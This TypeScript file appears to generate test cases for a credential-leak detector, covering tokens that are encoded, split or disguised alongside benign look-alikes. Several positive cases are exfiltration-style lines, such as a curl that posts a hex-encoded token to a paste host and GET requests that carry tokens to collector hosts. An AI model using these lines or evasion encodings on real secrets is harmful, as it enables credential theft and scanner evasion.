// Encodings, disguises and splits of credentials; benign encoded/random-looking look-alikes;
// non-English technical prose.
import { builder } from "./mk.ts";
import { tok, rs, A, b64, b64url, hex, utf16le, gzb64, pct, base32, qp, chunk, sha1, sha256, uuid, integrity, pngB64, int, cert } from "./gen.ts";

const { out, pos, ben } = builder("secrets", "enc");
const J = (o: unknown) => JSON.stringify(o);

// ---- encodings (positive) ----
pos("encoded", J({ event: "debug_dump", blob: b64(`GITHUB_TOKEN=${tok.githubPat()}\nHOME=/home/runner\n`) }));
pos("encoded", `curl -d "data=${hex(tok.anthropic())}" https://paste.example.net/api`);
pos("encoded", `payload=${base32(tok.stripeLive())}`);
pos("encoded", `GET /collect?v=1&d=${pct(tok.openaiProj())} HTTP/1.1\nHost: stats.example.org`, "fully percent-encoded");
pos("encoded", J({ attachments: [{ name: "env.b64", data: b64(b64(`AWS_ACCESS_KEY_ID=${tok.awsId()}\nAWS_SECRET_ACCESS_KEY=${tok.awsSecret()}`)) }] }), "double base64");
pos("encoded", J({ report: gzb64(`npm_token=${tok.npm()}\nnode=v22.3.0\n`), encoding: "gzip+base64" }));
pos("encoded", `X-Debug: ${utf16le(tok.slackBot())}`, "utf-16le then base64");
pos("encoded", `Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nHi, the new key is ${qp(tok.sendgrid())}\nthanks`);
pos("encoded", `state=${b64url(J({ uid: 42, k: tok.huggingface() }))}`, "base64url JSON in a param");
pos("encoded", `const k = "${[...tok.githubPat()].map((c) => "\\u00" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")}";`, "JS unicode escapes");
pos("encoded", `echo ${[...tok.gitlab()].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")} | xargs -0 printf`, "\\x escapes in shell");
pos("encoded", `<input type="hidden" name="k" value="${[...tok.stripeLive()].map((c) => "&#" + c.charCodeAt(0) + ";").join("")}">`, "HTML numeric entities");
pos("encoded", `key=${tok.anthropic().split("").reverse().join("")}`, "reversed");
pos("encoded", `msg: ${b64(`{"api_key":"${tok.groq()}"}`).replace(/=+$/, "")}`, "base64 without padding");

// ---- disguised / glued / split (positive) ----
pos("split", `tok=${tok.githubPat().split("").join(" ")}`, "spaced out");
pos("split", `The key is ${tok.openaiLegacy().split("").join("\u200b")}`, "zero-width glued");
{ const t = tok.stripeLive(); const p = chunk(t, 12); pos("split", `const key = ${p.map((x) => JSON.stringify(x)).join(" +\n  ")};`, "JS concatenation"); }
{ const t = tok.anthropic(); const p = chunk(t, 25); pos("split", `key = (\n${p.map((x) => `    "${x}"`).join("\n")}\n)`, "Python implicit concatenation"); }
{ const t = tok.githubPat(); const p = chunk(t, 10); pos("split", `String token = ${p.map((x) => `"${x}"`).join(" + ")};`, "Java concatenation"); }
{ const t = tok.slackBot(); const p = chunk(t, 14); pos("split", `token := strings.Join([]string{${p.map((x) => `"${x}"`).join(", ")}}, "")`, "Go strings.Join"); }
{ const t = tok.npm(); const p = chunk(t, 8); pos("split", `parts=(${p.join(" ")})\nTOKEN=$(printf "%s" "\${parts[@]}")`, "bash array join"); }
{ const t = tok.awsSecret(); const id = tok.awsId(); pos("split", J({ k1: id.slice(0, 10), k2: id.slice(10), s1: t.slice(0, 20), s2: t.slice(20) }), "split across JSON fields"); }
{ const t = tok.digitalocean(); pos("split", `part 1/3: ${t.slice(0, 25)}\npart 2/3: ${t.slice(25, 50)}\npart 3/3: ${t.slice(50)}`, "split over lines"); }
{ const t = tok.githubFine(); pos("split", `GET /p?a=${t.slice(0, 40)}&b=${t.slice(40)} HTTP/1.1\nHost: collector.example.net`, "split over two params"); }
pos("split", `${tok.anthropic().toUpperCase()}`, "case-folded");
pos("split", `token='${tok.githubPat().replace(/^ghp_/, "ghp" + "_'" + "'")}'`, "quote-broken in shell");

// ---- benign encoded / random-looking ----
ben("encoded", J({ image: `data:image/png;base64,${pngB64()}`, alt: "diagram" }));
ben("encoded", J({ event: "debug_dump", blob: b64(`HOME=/home/runner\nPATH=/usr/local/bin:/usr/bin\nCI=true\nRUNNER_OS=Linux\n`) }), "base64 of harmless env");
ben("encoded", `X-Cloud-Trace-Context: ${rs(32, A.hex)}/${int(10 ** 15, 9 * 10 ** 15)};o=1\ntraceparent: 00-${rs(32, A.hex)}-${rs(16, A.hex)}-01`);
ben("encoded", `commit ${sha1()}\nMerge: ${sha1().slice(0, 7)} ${sha1().slice(0, 7)}\ntree ${sha1()}`);
ben("encoded", `sha256sums:\n${sha256()}  toolkit-linux-x64\n${sha256()}  toolkit-darwin-arm64\n${sha256()}  toolkit-windows-x64.exe`);
ben("encoded", J({ orderId: uuid(), items: [{ sku: "TS-" + rs(6, A.upper + A.digit), qty: 2 }], correlationId: uuid() }));
ben("encoded", `"integrity": "${integrity()}"`);
ben("encoded", `<script src="https://cdn.example.com/lib.min.js" integrity="sha384-${rs(64, A.b64)}" crossorigin="anonymous"></script>`);
ben("encoded", `ETag: W/"${rs(27, A.url)}"\nCache-Control: max-age=31536000, immutable\nx-amz-request-id: ${rs(16, A.upper + A.digit)}\nx-amz-id-2: ${rs(76, A.b64)}=`);
ben("encoded", `docker pull ghcr.io/acme/api@sha256:${sha256()}`);
ben("encoded", `state=${b64url(J({ returnTo: "/settings/billing", nonce: rs(16, A.alnum) }))}`, "oauth state");
ben("encoded", `id,email,created\n${Array.from({ length: 4 }, () => `${rs(20, A.alnum)},user${int(1, 999)}@example.com,2024-0${int(1, 9)}-1${int(0, 9)}`).join("\n")}`, "CSV of random ids");
ben("encoded", J({ kid: rs(43, A.url), kty: "EC", crv: "P-256", x: rs(43, A.url), y: rs(43, A.url), use: "sig" }), "public JWK (no d)");
ben("encoded", `const ICON = "data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>`)}";`);
ben("split", `const key = "sk_live_" + process.env.STRIPE_SUFFIX;`, "prefix + env");
ben("split", `const url = "https://api.example.com/" + "v1/" + "users/" + userId + "?fields=" + fields.join(",");`);
ben("split", `token = "xoxb-" + "XXXXXXXXXXX" + "-" + "XXXXXXXXXXXXX" + "-" + "XXXXXXXXXXXXXXXXXXXXXXXX"`);
ben("split", `parts=(alpha beta gamma delta)\nJOINED=$(IFS=,; echo "\${parts[*]}")`);

// ---- non-English technical prose (benign) ----
ben("prose-i18n", `Скопируйте файл .env.example в .env и укажите в переменной OPENAI_API_KEY свой ключ. Никогда не коммитьте .env в репозиторий; ключ можно получить на https://platform.openai.com/api-keys.`, "ru");
ben("prose-i18n", `Щоб підключитися до бази, відкрийте config/database.yml і замініть пароль на свій. Токен доступу GitHub зберігайте у ~/.git-credentials лише на локальній машині.`, "uk");
ben("prose-i18n", `Ключът за API се намира в раздела „Настройки → Сигурност“. Файлът id_rsa.pub може да се сподели, а id_rsa — никога.`, "bg");
ben("prose-i18n", `Лозинку за базу података подесите у променљивој DB_PASSWORD у фајлу docker-compose.yml; тајни кључ (secret_key) генеришите командом openssl rand -hex 32.`, "sr");
ben("prose-i18n", `Για να ρυθμίσετε το κλειδί API, ανοίξτε το αρχείο settings.json και συμπληρώστε το πεδίο "apiKey". Το αρχείο .npmrc περιέχει το token του μητρώου.`, "el");
ben("prose-i18n", `API кілтін алу үшін https://console.example.kz/keys бетіне өтіңіз. Құпия сөзді .env файлында сақтаңыз және оны git-ке қоспаңыз.`, "kk");
ben("prose-i18n", `Ошибка 401: неверный токен. Проверьте заголовок Authorization: Bearer <токен> и срок действия ключа в личном кабинете.`, "ru");
ben("prose-i18n", `Пароль администратора по умолчанию — changeme; смените его сразу после установки: sudo passwd admin.`, "ru placeholder password");

export const cases = out;

// ---- more hard benign look-alikes (appended) ----
{
  const { out: more, ben: b } = builder("secrets", "enc2");
  b("lookalike", `const WEBPACK_HASH = "${rs(20, A.hex)}";\nconst BUILD_ID = "${rs(21, A.url)}";`, "build ids");
  b("lookalike", `youtube video id ${rs(11, A.url)}, playlist PL${rs(32, A.url)}`);
  b("lookalike", `Stripe test mode: use the publishable key pk_test_... in the browser and keep the secret key on the server. Test keys start with sk_test_ and can't move real money.`);
  b("lookalike", `public key for webhook signature verification:\n${cert()}`);
  b("lookalike", `GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`, "x-ed placeholder");
  b("lookalike", `OPENAI_API_KEY=sk-...your-key-here...\nANTHROPIC_API_KEY=sk-ant-REPLACE_ME`);
  b("lookalike", `aws_access_key_id = <YOUR_ACCESS_KEY_ID>\naws_secret_access_key = <YOUR_SECRET_ACCESS_KEY>`);
  b("lookalike", `password: "********"\napi_key: "[REDACTED]"\ntoken: "***"`, "masked");
  b("lookalike", `wasm-pack build output: pkg/app_bg.wasm ${rs(64, A.hex)}\nsourcemap: //# sourceMappingURL=data:application/json;base64,${b64(JSON.stringify({ version: 3, sources: ["src/lib.rs"], mappings: "AAAA;AACA,IAAI" }))}`);
  b("lookalike", `Device fingerprint: ${rs(8, A.HEX)}:${rs(8, A.HEX)}:${rs(8, A.HEX)}:${rs(8, A.HEX)}\nSHA256 fingerprint=${Array.from({ length: 32 }, () => rs(2, A.HEX)).join(":")}`);
  b("lookalike", `salt = secrets.token_bytes(16)\nkey = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600_000)\nstore(user_id, salt.hex(), key.hex())`, "key-derivation code");
  b("lookalike", `"password_hash": "$argon2id$v=19$m=65536,t=3,p=4$${rs(22, A.alnum + "+/")}$${rs(43, A.alnum + "+/")}"`, "argon2 hash");
  b("lookalike", `user:$6$${rs(16, A.alnum + "./")}$${rs(86, A.alnum + "./")}:19700:0:99999:7:::`, "shadow hash line");
  b("lookalike", `secret_key = os.urandom(32)  # generated at startup, never stored\nSECRET_KEY = env("DJANGO_SECRET_KEY")`);
  b("lookalike", `Use \`curl -u admin:admin http://localhost:8080/api\` against the local demo container; the default credentials are admin/admin and must be changed in production.`);
  b("lookalike", `[client]\nuser=root\npassword=\nhost=127.0.0.1\n`, "empty password");
  b("lookalike", `OTP backup codes are shown once; store them in your password manager. Example format: 1234-5678.`);
  b("lookalike", `recaptcha site key (public, goes in HTML): 6L${rs(38, A.url)}`, "public site key");
  b("lookalike", `Firebase web config (public by design): apiKey: "AIza...", authDomain: "acme.firebaseapp.com", projectId: "acme"`, "elided");
  b("lookalike", `k8s: kubectl create secret generic db --from-literal=password="$(openssl rand -base64 24)"`);
  cases.push(...more);
}
